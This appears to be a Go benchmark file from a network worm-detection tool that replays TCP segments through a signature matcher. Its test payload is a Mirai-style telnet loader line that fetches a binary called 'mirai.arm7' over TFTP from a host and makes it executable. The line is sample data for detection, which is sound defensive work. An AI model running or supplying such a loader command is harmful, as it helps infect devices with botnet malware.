package wire

import (
	"fmt"
	"net"
	"testing"
	"time"

	"github.com/gopacket/gopacket"
	"github.com/gopacket/gopacket/layers"

	"wormsink/internal/evidencetest"
	"wormsink/signatures"
)

// tseg is one TCP segment of a test stream.
type tseg struct {
	sport, dport uint16
	seq          uint32
	payload      string
	fin          bool
	// A handshake's segments: syn is the client's SYN (with synAck, the
	// server's SYN/ACK: sport and dport then name the server's side); ack
	// is the acknowledgment number, 1 when zero.
	syn, synAck bool
	ack         uint32
}

func tcpSeg(t testing.TB, src, dst net.IP, s tseg) []byte {
	if s.synAck {
		src, dst = dst, src
	}
	ip := ip4(src, dst, layers.IPProtocolTCP)
	ack := s.ack
	if ack == 0 {
		ack = 1
	}
	tcp := &layers.TCP{SrcPort: layers.TCPPort(s.sport), DstPort: layers.TCPPort(s.dport), Seq: s.seq, Ack: ack, PSH: !s.syn && !s.synAck, ACK: !s.syn || s.synAck, SYN: s.syn || s.synAck, FIN: s.fin, Window: 65535}
	tcp.SetNetworkLayerForChecksum(ip)
	return ser(t, eth(layers.EthernetTypeIPv4), ip, tcp, gopacket.Payload(s.payload))
}

// BenchmarkStreamSegments: a telnet loader line a byte a segment (every
// segment joined to the carried bytes and matched), against the same
// bytes in one segment per line.
func BenchmarkStreamSegments(b *testing.B) {
	line := "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9; /bin/busybox chmod 777 dvrHelper\r\n"
	for _, size := range []int{1, 16, len(line)} {
		b.Run(fmt.Sprintf("segment=%d", size), func(b *testing.B) {
			m := NewMatcher(StaticSet{signatures.Default()}, evidencetest.Discard{}, Options{})
			var frames [][]byte
			for k := 0; k < len(line); k += size {
				frames = append(frames, tcpSeg(b, infected, victim, tseg{sport: 3000, dport: 23, seq: uint32(k), payload: line[k:min(k+size, len(line))]}))
			}
			at := baseTime
			b.ReportAllocs()
			b.ResetTimer()
			seq := uint32(0)
			for i := 0; i < b.N; i++ {
				f := frames[i%len(frames)]
				if i%len(frames) == 0 && i > 0 {
					seq += uint32(len(line))
				}
				s := seq + uint32((i%len(frames))*size)
				f[14+20+4], f[14+20+5], f[14+20+6], f[14+20+7] = byte(s>>24), byte(s>>16), byte(s>>8), byte(s)
				at = at.Add(time.Microsecond)
				m.Packet(layers.LinkTypeEthernet, f, Meta{Time: at})
			}
		})
	}
}
